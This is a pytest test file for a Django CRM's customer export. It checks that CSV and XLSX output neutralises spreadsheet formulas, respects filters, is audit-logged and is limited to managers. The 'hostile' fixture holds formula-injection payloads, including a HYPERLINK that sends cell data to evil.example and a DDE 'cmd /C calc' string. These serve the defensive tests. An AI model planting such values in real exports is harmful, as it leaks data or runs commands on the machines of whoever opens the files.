"""Export of the filtered customer list: managers only, logged, formulas neutralised in every text cell."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from crm.models import AuditEvent
from tests.customers.factories import CustomerFactory

pytestmark = pytest.mark.django_db
URL = reverse("customers:export")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def export(client, **params) -> bytes:
    response = client.get(URL, params)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(content: bytes) -> list[dict]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def hostile():
    return CustomerFactory(buyer_nick=EVIL, display_nick="+86 cmd|' /C calc'!A0", real_name="@SUM(1+1)",
                           wangwang="-2+3", district="\tTAB", city="\rCR", total_paid="-5.00")


def test_a_formula_in_any_text_cell_comes_out_quoted_in_csv(hostile, client_for, manager):
    row = csv_rows(export(client_for(manager), format="csv"))[0]

    values = set(row.values())
    assert "'" + EVIL in values
    assert "'+86 cmd|' /C calc'!A0" in values
    assert "'@SUM(1+1)" in values
    assert "'-2+3" in values
    assert "'\tTAB" in values
    assert not [v for v in values if v and v[0] in "=+@\t\r"]


def test_a_formula_in_any_text_cell_comes_out_quoted_in_xlsx_and_numbers_stay_numbers(hostile, client_for, manager):
    row = xlsx_rows(export(client_for(manager), format="xlsx"))[0]

    values = list(row.values())
    assert "'" + EVIL in values
    assert "'@SUM(1+1)" in values
    assert "'-2+3" in values
    assert not [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "@", "-", "\t", "\r")]
    assert -5 in values  # a negative amount is a number, not text to neutralise


def test_the_export_holds_the_current_filter_only(client_for, manager):
    CustomerFactory(buyer_nick="hz", city="杭州市")
    CustomerFactory(buyer_nick="nb", city="宁波市")

    rows = csv_rows(export(client_for(manager), format="csv", city="宁波市"))

    assert [r for r in rows if "hz" in r.values()] == []
    assert len(rows) == 1


def test_every_export_is_logged_with_who_the_filter_and_the_row_count(client_for, manager):
    CustomerFactory.create_batch(3, city="宁波市")
    CustomerFactory(city="杭州市")

    export(client_for(manager), format="xlsx", city="宁波市")

    audit = AuditEvent.objects.get(action="export")
    assert audit.actor == manager
    assert audit.detail == {"format": "xlsx", "filter": {"city": ["宁波市"]}, "rows": 3}


def test_a_manager_gets_the_contact_details_in_the_export(client_for, manager):
    CustomerFactory(phone="13812341234", phone_tail="1234")

    content = export(client_for(manager), format="csv").decode("utf-8-sig")

    assert "13812341234" in content


@pytest.mark.parametrize("role", ["agent", "staff", "outsider"])
def test_agents_and_staff_cannot_export(role, client_for, request):
    CustomerFactory()
    user = request.getfixturevalue(role)

    response = client_for(user).get(URL, {"format": "csv"})

    assert response.status_code == 403
    assert not AuditEvent.objects.exists()


def test_an_unknown_format_is_refused_without_exporting(client_for, manager):
    response = client_for(manager).get(URL, {"format": "pdf"})

    assert response.status_code == 302
    assert not AuditEvent.objects.exists()
